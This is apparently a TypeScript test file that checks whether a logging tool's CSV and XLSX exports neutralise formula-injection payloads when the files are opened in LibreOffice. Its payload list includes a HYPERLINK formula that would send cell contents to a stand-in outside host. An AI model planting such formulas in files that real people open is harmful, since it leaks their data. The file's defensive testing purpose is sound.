// What a real spreadsheet makes of exports whose texts are attacks: no formula, and every text as it was.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { neutralise } from '#core/export/neutralise.ts';
import { eventColumns } from '#shared/model/event-columns.ts';
import { aboutOf, archiveOfRecords, exportFrom } from '#test/support/export-archive.ts';
import { fixtureFolder } from '#test/support/fixture-folder.ts';
import { hasLibreOffice, type OfficeSheet, openInLibreOffice } from '#test/support/libre-office.ts';
import { temporaryFolder } from '#test/support/temporary-folder.ts';

const fixtures = fixtureFolder('csv_injection');
const known =
  fixtures === null
    ? []
    : readFileSync(join(fixtures, 'csv-payload.txt'), 'utf8')
        .split(/\r?\n/)
        .filter((line) => line !== '');

const payloads = [
  ...known,
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;2)',
  '  =1+1',
  '\u00a0=1+1',
  '"=1+1"',
  "'=1+1",
  '\t=1+1',
  '＝1+1',
  '=HYPERLINK("http://203.0.113.1/?x="&A1;"click")',
  'first\n=1+1',
  'first\r\n=1+1',
  'Mozilla/5.0 (compatible; +http://203.0.113.1);=1+1',
  'x;"=1+1"',
  'x\t=1+1',
  'x";=1+1;"',
  '=1+1;"=2+2"',
  '\u200b=1+1',
];

const records = payloads.map((text, place) => ({
  id: `e${String(place).padStart(3, '0')}`,
  timestamp: `2026-05-20T10:${String(place).padStart(2, '0')}:00.000Z`,
  actor: { id: text, userAgent: text },
  action: text,
  resource: { type: text, id: text },
  reason: text,
  diff: { [text]: { from: text, to: [text] } },
  note: text,
}));
const columns = eventColumns.filter((column) => column !== 'timestampText');

const formulas = (sheets: readonly OfficeSheet[]): string[] =>
  sheets.flatMap(({ rows }) => rows.flat().flatMap(({ formula }) => formula ?? []));

describe.skipIf(!hasLibreOffice())('in LibreOffice', () => {
  it.each([',', ';', '\t'] as const)(
    'CSV for spreadsheets cut at %j shows no formula, where plain CSV does',
    async (delimiter) => {
      const folder = await temporaryFolder();
      const archive = await archiveOfRecords(records);
      const plain = await exportFrom(archive, { format: 'csv', path: join(folder, 'plain.csv'), columns });
      const safe = await exportFrom(archive, {
        format: 'csv-spreadsheet',
        path: join(folder, 'safe.csv'),
        columns,
        sort: 'oldest',
      });
      const [unsafe = [], sheets = []] = await openInLibreOffice([plain.path, safe.path], delimiter);
      expect(formulas(unsafe).length).toBeGreaterThan(0);
      expect(formulas(sheets)).toEqual([]);
      if (delimiter !== ',') return;
      const rows = sheets[0]?.rows.slice(1) ?? [];
      const action = columns.indexOf('action');
      const shown = rows.slice(0, payloads.length).map((cells) => cells[action]?.text);
      expect(shown).toEqual(payloads.map((text) => neutralise(text).replaceAll('\r\n', '\n')));
    },
    120_000,
  );

  it('XLSX shows no formula and every text as it is', async () => {
    const folder = await temporaryFolder();
    const odd = ['_x0041_', '\ud83d\ude00', 'a\r\nb', '  two  blanks  ', '00012', '1e5', '2026-05-01'];
    const more = odd.map((text, place) => ({
      id: `odd ${place}`,
      timestamp: `2026-05-21T10:${String(place).padStart(2, '0')}:00.000Z`,
      action: text,
      reason: text,
    }));
    const archive = await archiveOfRecords([...records, ...more]);
    const wish = { format: 'xlsx', path: join(folder, 'texts.xlsx'), zone: 'Europe/Madrid', sort: 'oldest' } as const;
    const report = await exportFrom(archive, { ...wish, columns: ['id', 'timestamp', 'action', 'diff'] });
    const [sheets = []] = await openInLibreOffice([report.path]);
    expect(sheets.map(({ name }) => name)).toEqual(['About', 'Events']);
    expect(formulas(sheets)).toEqual([]);
    const [head = [], ...rows] = sheets[1]?.rows.map((cells) => cells.map(({ text }) => text)) ?? [];
    expect(head.slice(0, 5)).toEqual(['id', 'timestamp', 'timestamp (Europe/Madrid)', 'action', 'diff']);
    expect(rows[0]?.slice(0, 3)).toEqual(['e000', '2026-05-20T10:00:00.000Z', '2026-05-20 12:00:00.000 +02:00']);
    const expected = [...payloads, ...odd].map((text) => text.replaceAll('\r\n', '\n'));
    expect(rows.slice(0, expected.length).map((cells) => cells[3])).toEqual(expected);
    const about = Object.fromEntries((sheets[0]?.rows ?? []).map(([name, value]) => [name?.text, value?.text]));
    expect(about).toMatchObject({ Events: String(expected.length), 'Time zone': 'Europe/Madrid' });
    expect(about['Archive root']).toMatch(/^[0-9a-f]{64}$/);
  }, 120_000);
});

it('every neutralised cell is counted and listed, with what stood there', async () => {
  const folder = await temporaryFolder();
  const archive = await archiveOfRecords(records);
  const path = join(folder, 'safe.csv');
  const report = await exportFrom(archive, {
    format: 'csv-spreadsheet',
    path,
    columns: ['id', 'action'],
    sort: 'oldest',
  });
  const expected = payloads.flatMap((value, place) =>
    neutralise(value) === value ? [] : [{ row: place + 1, column: 'action', value }],
  );
  expect(expected.length).toBeGreaterThan(payloads.length - 2);
  expect(report).toMatchObject({ neutralised: expected.length, cells: expected });
  expect(aboutOf(report).neutralised).toEqual({ count: expected.length, cells: expected });
});
